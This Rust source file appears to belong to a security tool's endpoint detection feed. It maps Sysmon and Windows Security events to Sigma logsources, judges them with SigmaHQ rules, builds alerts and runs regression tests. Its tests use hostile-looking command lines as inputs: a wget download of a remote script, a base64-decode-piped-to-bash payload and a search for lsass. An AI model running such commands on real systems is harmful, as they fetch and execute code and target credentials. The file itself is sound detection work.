//! The endpoint feed's detections: each event placed in the Sigma logsource it
//! belongs to (Sysmon's EventID → category, as Sigma's Sysmon pipeline does; the
//! channel → service) and judged by SigmaHQ's rules with Ward's Sigma engine
//! (`ward_detect::logsource`). Windows events meet the SigmaHQ Windows rules shipped
//! in `collector/rules/sigmahq/` (medium and above, embedded at build time); Linux
//! Sysmon events meet the default pack Ward's agents run (built-in and SigmaHQ Linux
//! rules) where the logsource fits.
//!
//! The rules are compiled once per process, on first use: the server compiles them at
//! start (`warm`, logging the time it took), so no import waits for them. They are
//! content, not state: nothing changes them after.
//!
//! An alert: source `endpoint`, no device id (the host runs no Ward agent), the rule's
//! title, author (DRL attribution), level and ATT&CK ids, entities (the host as
//! `Device{hostname}`, which correlation keys as that host; process, parent, user,
//! file, addresses, domain) and the event's key fields in `matched`. Its id comes from
//! the rule and the event's key, so a re-import raises nothing twice.

use std::net::IpAddr;
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use serde_json::{Map, Value};
use ward_detect::RuleError;
use ward_detect::logsource::{EventSource, SourceDetector};
use ward_protocol::{Entity, RuleFile};

use super::alerts::alert_id;
use super::endpoint::EndpointEvent;
use crate::store::{AlertSource, SourcedAlert};

include!(concat!(env!("OUT_DIR"), "/endpoint_rules.rs"));

/// The compiled rules and what loading them reported.
#[derive(Debug)]
pub struct EndpointRules {
    pub detector: SourceDetector,
    pub errors: Vec<RuleError>,
    pub load_time: Duration,
}

static RULES: OnceLock<EndpointRules> = OnceLock::new();

/// The rule files: the shipped Windows rules, then the agents' default pack.
pub fn rule_files() -> Vec<RuleFile> {
    let mut files: Vec<RuleFile> = ENDPOINT_RULES
        .iter()
        .map(|(name, yaml)| RuleFile {
            name: format!("sigmahq/{name}"),
            yaml: (*yaml).to_string(),
        })
        .collect();
    files.extend(ward_detect::default_rule_files(&ward_detect::PackChoice::default()));
    files
}

/// The rules, compiled on first use.
pub fn rules() -> &'static EndpointRules {
    RULES.get_or_init(|| {
        let started = Instant::now();
        let (detector, errors) = SourceDetector::load(&rule_files());
        EndpointRules {
            detector,
            errors,
            load_time: started.elapsed(),
        }
    })
}

/// Compiles the rules now (the server calls this at start) and logs what loaded.
pub fn warm() {
    let r = rules();
    let stats = r.detector.stats();
    tracing::info!(
        rules = stats.loaded,
        logsources = stats.logsources,
        refused = r.errors.len(),
        load_ms = r.load_time.as_millis() as u64,
        "endpoint feed rules loaded"
    );
    for e in r.errors.iter().take(5) {
        tracing::debug!(error = %e, "endpoint feed rule not loaded");
    }
}

/// Sigma categories of a Sysmon event (Windows or Linux), by EventID, as Sigma's
/// Sysmon pipeline maps them. Registry events 12 are adds or deletes by EventType.
pub fn sysmon_categories(event_id: u32, fields: &Map<String, Value>) -> &'static [&'static str] {
    match event_id {
        1 => &["process_creation"],
        2 => &["file_change"],
        3 => &["network_connection"],
        4 | 16 => &["sysmon_status"],
        5 => &["process_termination"],
        6 => &["driver_load"],
        7 => &["image_load"],
        8 => &["create_remote_thread"],
        9 => &["raw_access_thread"],
        10 => &["process_access"],
        11 => &["file_event"],
        12 => {
            let t = fields.get("EventType").and_then(Value::as_str).unwrap_or_default();
            if t.eq_ignore_ascii_case("CreateKey") {
                &["registry_add", "registry_event"]
            } else if t.to_ascii_lowercase().starts_with("delete") {
                &["registry_delete", "registry_event"]
            } else {
                &["registry_event"]
            }
        }
        13 => &["registry_set", "registry_event"],
        14 => &["registry_rename", "registry_event"],
        15 => &["create_stream_hash"],
        17 | 18 => &["pipe_created"],
        19..=21 => &["wmi_event"],
        22 => &["dns_query"],
        23 | 26 => &["file_delete"],
        24 => &["clipboard_capture"],
        25 => &["process_tampering"],
        27 => &["file_block_executable"],
        28 => &["file_block_shredding"],
        29 => &["file_executable_detected"],
        _ => &[],
    }
}

/// Sigma's Windows service names by channel (lowercase), as SigmaHQ's logsource
/// definitions name them.
const SERVICES: &[(&str, &str)] = &[
    ("security", "security"),
    ("system", "system"),
    ("application", "application"),
    ("microsoft-windows-sysmon/operational", "sysmon"),
    ("linux-sysmon/operational", "sysmon"),
    ("microsoft-windows-powershell/operational", "powershell"),
    ("windows powershell", "powershell-classic"),
    ("microsoft-windows-windows defender/operational", "windefend"),
    ("microsoft-windows-taskscheduler/operational", "taskscheduler"),
    ("microsoft-windows-wmi-activity/operational", "wmi"),
    (
        "microsoft-windows-codeintegrity/operational",
        "codeintegrity-operational",
    ),
    ("microsoft-windows-bits-client/operational", "bits-client"),
    ("microsoft-windows-dns-client/operational", "dns-client"),
    ("dns server", "dns-server"),
    (
        "microsoft-windows-windows firewall with advanced security/firewall",
        "firewall-as",
    ),
    ("microsoft-windows-ntlm/operational", "ntlm"),
    (
        "microsoft-windows-appxdeployment-server/operational",
        "appxdeployment-server",
    ),
    (
        "microsoft-windows-security-mitigations/kernel mode",
        "security-mitigations",
    ),
    (
        "microsoft-windows-security-mitigations/user mode",
        "security-mitigations",
    ),
    (
        "microsoft-windows-terminalservices-localsessionmanager/operational",
        "terminalservices-localsessionmanager",
    ),
    ("microsoft-windows-smbserver/connectivity", "smbserver-connectivity"),
    ("msexchange management", "msexchange-management"),
    ("microsoft-windows-applocker/exe and dll", "applocker"),
    ("microsoft-windows-applocker/msi and script", "applocker"),
    ("microsoft-windows-applocker/packaged app-execution", "applocker"),
    ("microsoft-windows-applocker/packaged app-deployment", "applocker"),
];

/// The Sigma service of a channel, if Sigma names one.
pub fn service_of(channel: &str) -> Option<&'static str> {
    let c = channel.trim().to_ascii_lowercase();
    SERVICES.iter().find(|(ch, _)| *ch == c).map(|(_, s)| *s)
}

/// Sigma categories of an event: Sysmon's by EventID, PowerShell's script and
/// module logging by theirs; other channels have none (their rules name a service).
pub fn categories(event: &EndpointEvent) -> &'static [&'static str] {
    match service_of(&event.channel) {
        Some("sysmon") => sysmon_categories(event.event_id, &event.fields),
        Some("powershell") => match event.event_id {
            4104 => &["ps_script"],
            4103 => &["ps_module"],
            _ => &[],
        },
        // Process creation audited by Windows itself, as Sigma's windows-audit
        // pipeline takes it (with Sysmon's field names: `security_4688_fields`).
        Some("security") if event.event_id == 4688 => &["process_creation"],
        Some("powershell-classic") => match event.event_id {
            400 => &["ps_classic_start"],
            600 => &["ps_classic_provider_start"],
            800 => &["ps_classic_script"],
            _ => &[],
        },
        _ => &[],
    }
}

/// Every rule of `detector` that matches `event`: (rule id, the alert).
pub fn judge(detector: &SourceDetector, event: &EndpointEvent) -> Vec<SourcedAlert> {
    let source = EventSource {
        product: event.product,
        categories: categories(event),
        service: service_of(&event.channel),
    };
    let fields = Value::Object(sigma_fields(event));
    detector
        .evaluate(&source, &fields)
        .into_iter()
        .map(|m| {
            let mut matched = Map::new();
            for f in &m.matched {
                matched.insert(f.name.clone(), Value::String(f.value.clone()));
            }
            for name in KEY_FIELDS {
                if let Some(v) = event.fields.get(*name).and_then(as_text) {
                    matched.entry(*name).or_insert(Value::String(v));
                }
            }
            matched.insert("record_key".into(), Value::String(event.key.clone()));
            SourcedAlert {
                id: alert_id(event.time_ms, &m.rule.id, &[&event.key]),
                source: AlertSource::Endpoint,
                device_id: None,
                observed_at_ms: event.time_ms,
                last_observed_at_ms: event.time_ms,
                rule: m.rule,
                entities: entities(event),
                count: 1,
                matched,
            }
        })
        .collect()
}

/// The fields rules see: the event's, with a Security 4688's also under Sysmon's names.
fn sigma_fields(event: &EndpointEvent) -> Map<String, Value> {
    let mut fields = event.fields.clone();
    if event.event_id == 4688 && service_of(&event.channel) == Some("security") {
        security_4688_fields(&mut fields);
    }
    fields
}

/// A Security 4688 event's fields under Sysmon's names, as Sigma's windows-audit
/// pipeline renames them (`NewProcessName` → `Image`...), where Sysmon's are absent.
fn security_4688_fields(fields: &mut Map<String, Value>) {
    for (from, to) in [("NewProcessName", "Image"), ("ParentProcessName", "ParentImage")] {
        if let Some(v) = fields.get(from).cloned() {
            fields.entry(to).or_insert(v);
        }
    }
    // 4688's ProcessId is the creator's; the new process's is NewProcessId.
    if let Some(new) = fields.get("NewProcessId").cloned()
        && let Some(parent) = fields.insert("ProcessId".into(), new)
    {
        fields.entry("ParentProcessId").or_insert(parent);
    }
    if !fields.contains_key("User")
        && let Some(user) = fields.get("SubjectUserName").and_then(Value::as_str)
    {
        let user = match fields.get("SubjectDomainName").and_then(Value::as_str) {
            Some(d) if !d.is_empty() && d != "-" => format!("{d}\\{user}"),
            _ => user.to_string(),
        };
        fields.insert("User".into(), Value::String(user));
    }
}

/// What `matched` always says about the event, besides the fields the rule matched.
const KEY_FIELDS: &[&str] = &[
    "Computer",
    "Channel",
    "EventID",
    "EventRecordID",
    "UtcTime",
    "Image",
    "CommandLine",
    "ParentImage",
    "User",
    "TargetFilename",
    "TargetObject",
];

fn as_text(v: &Value) -> Option<String> {
    match v {
        Value::String(s) if !s.is_empty() && s != "-" => Some(s.clone()),
        Value::Number(n) => Some(n.to_string()),
        _ => None,
    }
}

fn field(fields: &Map<String, Value>, names: &[&str]) -> Option<String> {
    names.iter().find_map(|n| fields.get(*n).and_then(as_text))
}

fn pid(fields: &Map<String, Value>, name: &str) -> u32 {
    field(fields, &[name])
        .and_then(|s| {
            let s = s.trim();
            s.strip_prefix("0x")
                .map_or_else(|| s.parse().ok(), |h| u32::from_str_radix(h, 16).ok())
        })
        .unwrap_or(0)
}

/// A file Windows ships (under `C:\Windows\`): its hash is on every host of a
/// release and names no attack, so it is left out of the entity (correlation would
/// otherwise tie every `cmd.exe` alert of the fleet together), as Linux system
/// binaries are.
fn windows_binary(path: &str) -> bool {
    path.get(..11).is_some_and(|p| p.eq_ignore_ascii_case("c:\\windows\\"))
}

/// SHA256=<hex> from Sysmon's `Hashes` (`SHA1=…,MD5=…,SHA256=…,IMPHASH=…`).
fn sha256_of(hashes: Option<String>) -> Option<[u8; 32]> {
    let h = hashes?;
    let hex_text = h.split(',').find_map(|p| {
        p.trim()
            .strip_prefix("SHA256=")
            .or_else(|| p.trim().strip_prefix("sha256="))
    })?;
    let bytes = hex::decode(hex_text.trim()).ok()?;
    bytes.try_into().ok()
}

/// The event's entities: host, process and parent, user, files, addresses, domain.
pub fn entities(event: &EndpointEvent) -> Vec<Entity> {
    let f = sigma_fields(event);
    let mut out = vec![Entity::Device {
        hostname: event.host.clone(),
    }];
    let mut push = |e: Entity| {
        if !out.contains(&e) {
            out.push(e);
        }
    };
    let image = field(&f, &["Image", "NewProcessName", "SourceImage"]);
    if let Some(exe) = image {
        let sha256 = if windows_binary(&exe) {
            None
        } else {
            sha256_of(field(&f, &["Hashes", "Hash"]))
        };
        push(Entity::Process {
            pid: pid(&f, "ProcessId"),
            ppid: pid(&f, "ParentProcessId"),
            // The event is the process's start only when it is its creation.
            start_time_ms: if categories(event).contains(&"process_creation") {
                event.time_ms
            } else {
                0
            },
            exe,
            cmdline: field(&f, &["CommandLine"]).unwrap_or_default(),
            sha256,
        });
    }
    if let Some(exe) = field(&f, &["ParentImage", "ParentProcessName"]) {
        push(Entity::Process {
            pid: pid(&f, "ParentProcessId"),
            ppid: 0,
            start_time_ms: 0,
            exe,
            cmdline: field(&f, &["ParentCommandLine"]).unwrap_or_default(),
            sha256: None,
        });
    }
    for name in ["User", "TargetUserName", "SubjectUserName", "SourceUser"] {
        if let Some(u) = field(&f, &[name]).filter(|u| !u.ends_with('$')) {
            let domain = if name == "TargetUserName" {
                field(&f, &["TargetDomainName"])
            } else if name == "SubjectUserName" {
                field(&f, &["SubjectDomainName"])
            } else {
                None
            };
            let name = match domain {
                Some(d) if !u.contains('\\') => format!("{d}\\{u}"),
                _ => u,
            };
            push(Entity::User { name, uid: None });
        }
    }
    for name in ["TargetFilename", "ImageLoaded", "TargetImage", "PipeName"] {
        if let Some(path) = field(&f, &[name]) {
            let sha256 = if name == "ImageLoaded" && !windows_binary(&path) {
                sha256_of(field(&f, &["Hashes"]))
            } else {
                None
            };
            push(Entity::File { path, sha256 });
        }
    }
    for name in ["DestinationIp", "SourceIp", "IpAddress"] {
        if let Some(addr) = field(&f, &[name]).and_then(|a| a.trim().parse::<IpAddr>().ok()) {
            push(Entity::Ip { addr });
        }
    }
    for name in ["QueryName", "DestinationHostname"] {
        if let Some(d) = field(&f, &[name]).filter(|d| d.contains('.')) {
            push(Entity::Domain {
                name: d.to_ascii_lowercase(),
            });
        }
    }
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
pub(crate) mod tests {
    use std::io::Read as _;
    use std::path::{Path, PathBuf};

    use super::*;
    use crate::config::FeedsConfig;

    pub(crate) fn gunzip(path: &str) -> Vec<u8> {
        let f = std::fs::File::open(path).unwrap_or_else(|e| panic!("{path}: {e}"));
        let mut out = Vec::new();
        flate2::read::GzDecoder::new(f).read_to_end(&mut out).unwrap();
        out
    }

    fn collect(dir: &Path, out: &mut Vec<PathBuf>) {
        for e in std::fs::read_dir(dir).unwrap().flatten() {
            let p = e.path();
            if p.is_dir() {
                collect(&p, out);
            } else if p.to_string_lossy().ends_with(".evtx.gz") {
                out.push(p);
            }
        }
    }

    /// `key: value` of the first line that has the key (the info.yml files are flat enough).
    fn yaml_value(text: &str, key: &str) -> Option<String> {
        text.lines().find_map(|l| {
            let l = l.trim_start().trim_start_matches("- ");
            l.strip_prefix(key)
                .and_then(|r| r.strip_prefix(':'))
                .map(|v| v.trim().trim_matches('\'').trim_matches('"').to_string())
        })
    }

    /// Recordings whose info.yml says `match_count: 1` where more of their events
    /// hold the rule's value (read by hand against each rule): AnyDesk's three
    /// `user.conf` writes, three ZoneMap\Domains values set to zone 2, two
    /// LanmanServer AutoShare values, three credential-dump tool files. SigmaHQ's
    /// runner counts them as one; every one of those events matches the rule as written.
    const UPSTREAM_UNDERCOUNTS: &[(&str, usize)] = &[
        ("0b9ad457-2554-44c1-82c2-d56a99c42377", 3),
        ("45e112d0-7759-4c2a-aa36-9f8fb79d3393", 3),
        ("c7dcacd0-cc59-4004-b0a4-1d6cdebe6f3e", 2),
        ("8fbf3271-1ef6-4e94-8210-03c2317947f6", 3),
    ];

    /// SigmaHQ's 202 real EVTX recordings, each through the feed's reader and rules:
    /// the rule its info.yml names must match as many events as it says (at least
    /// one where it says no count), for every recording whose rule the feed ships.
    #[test]
    fn sigmahq_regression_recordings_match_their_rules() {
        let root = PathBuf::from(format!(
            "{}/../tests/fixtures/endpoint/sigma-regression",
            env!("CARGO_MANIFEST_DIR")
        ));
        let mut files = Vec::new();
        collect(&root, &mut files);
        files.sort();
        assert_eq!(files.len(), 202, "the fixtures are incomplete");
        let rules = rules();
        let shipped: std::collections::HashSet<String> = rules.detector.rule_ids().map(str::to_string).collect();
        let cfg = FeedsConfig::default();
        let (mut checked, mut not_shipped, mut failures) = (0, Vec::new(), Vec::new());
        for f in &files {
            let info = std::fs::read_to_string(f.parent().unwrap().join("info.yml")).unwrap();
            let rule_id = yaml_value(info.split("rule_metadata:").nth(1).unwrap_or(""), "id").unwrap();
            let expected: Option<usize> = yaml_value(&info, "match_count").and_then(|c| c.parse().ok());
            if !shipped.contains(&rule_id) {
                not_shipped.push(rule_id);
                continue;
            }
            let bytes = gunzip(f.to_str().unwrap());
            let parsed = match super::super::endpoint::parse(&bytes, &cfg) {
                Ok(p) => p,
                Err(e) => {
                    failures.push(format!("{}: {e}", f.display()));
                    continue;
                }
            };
            let matches = parsed
                .items
                .iter()
                .filter(|e| judge(&rules.detector, e).iter().any(|a| a.rule.id == rule_id))
                .count();
            let expected = UPSTREAM_UNDERCOUNTS
                .iter()
                .find(|(id, _)| *id == rule_id)
                .map_or(expected, |(_, n)| Some(*n));
            let ok = match expected {
                Some(n) => matches == n,
                None => matches >= 1,
            };
            if !ok {
                failures.push(format!(
                    "{}: rule {rule_id} matched {matches} of {} events, expected {expected:?}",
                    f.strip_prefix(&root).unwrap().display(),
                    parsed.items.len()
                ));
            }
            checked += 1;
        }
        eprintln!(
            "regression recordings: {checked} checked, {} not shipped ({:?})",
            not_shipped.len(),
            not_shipped
        );
        assert!(
            failures.is_empty(),
            "{} failures:\n{}",
            failures.len(),
            failures.join("\n")
        );
        assert!(checked >= 180, "only {checked} recordings checked");
    }

    /// A Security 4688 (no Sysmon) meets the process_creation rules under Sysmon's names.
    #[test]
    fn a_security_4688_meets_the_process_creation_rules() {
        let row = r#"{"TimeGenerated":"2024-03-01T10:00:02Z","Computer":"DC01","EventID":4688,"Type":"SecurityEvent","SubjectUserName":"alice","SubjectDomainName":"CORP","NewProcessName":"C:\\Windows\\System32\\findstr.exe","CommandLine":"findstr /i lsass","NewProcessId":"0x1a2c","ParentProcessName":"C:\\Windows\\System32\\cmd.exe","ProcessId":"0x1a00"}"#;
        let p = super::super::endpoint::parse(row.as_bytes(), &FeedsConfig::default()).unwrap();
        let alerts = judge(&rules().detector, &p.items[0]);
        assert!(
            alerts
                .iter()
                .any(|a| a.rule.id == "fe63010f-8823-4864-a96b-a7b4a0f7b929"),
            "{:?}",
            alerts.iter().map(|a| &a.rule.title).collect::<Vec<_>>()
        );
        let a = &alerts[0];
        assert!(
            a.entities
                .iter()
                .any(|e| matches!(e, Entity::Process { pid: 0x1a2c, exe, .. } if exe.ends_with("findstr.exe")))
        );
        assert!(
            a.entities
                .iter()
                .any(|e| matches!(e, Entity::User { name, .. } if name == "CORP\\alice"))
        );
    }

    #[test]
    fn sysmon_event_ids_map_to_sigma_categories() {
        let mut f = Map::new();
        assert_eq!(sysmon_categories(1, &f), ["process_creation"]);
        assert_eq!(sysmon_categories(3, &f), ["network_connection"]);
        assert_eq!(sysmon_categories(11, &f), ["file_event"]);
        assert_eq!(sysmon_categories(13, &f), ["registry_set", "registry_event"]);
        f.insert("EventType".into(), "DeleteValue".into());
        assert_eq!(sysmon_categories(12, &f), ["registry_delete", "registry_event"]);
        f.insert("EventType".into(), "CreateKey".into());
        assert_eq!(sysmon_categories(12, &f), ["registry_add", "registry_event"]);
        assert!(sysmon_categories(255, &f).is_empty());
        assert_eq!(service_of("Microsoft-Windows-Sysmon/Operational"), Some("sysmon"));
        assert_eq!(service_of("Security"), Some("security"));
        assert_eq!(service_of("Nonesuch"), None);
    }

    #[test]
    fn a_linux_sysmon_event_meets_the_linux_rules_and_names_its_entities() {
        let line = super::super::endpoint::tests::LINUX_LINE
            .replace("wget http://203.0.113.7/injector.sh", "base64 -d /tmp/x.b64 | bash");
        let p = super::super::endpoint::parse(line.as_bytes(), &FeedsConfig::default()).unwrap();
        let alerts = judge(&rules().detector, &p.items[0]);
        assert!(!alerts.is_empty(), "no Linux rule matched");
        let a = &alerts[0];
        assert_eq!(a.source, AlertSource::Endpoint);
        assert!(a.device_id.is_none());
        assert!(a.entities.contains(&Entity::Device {
            hostname: "ip-172-31-60-25".into()
        }));
        assert!(
            a.entities
                .iter()
                .any(|e| matches!(e, Entity::Process { exe, pid: 3372, .. } if exe == "/usr/bin/wget"))
        );
        assert!(
            a.entities
                .iter()
                .any(|e| matches!(e, Entity::User { name, .. } if name == "root"))
        );
        // The same event again: the same alert id.
        assert_eq!(judge(&rules().detector, &p.items[0])[0].id, a.id);
    }
}
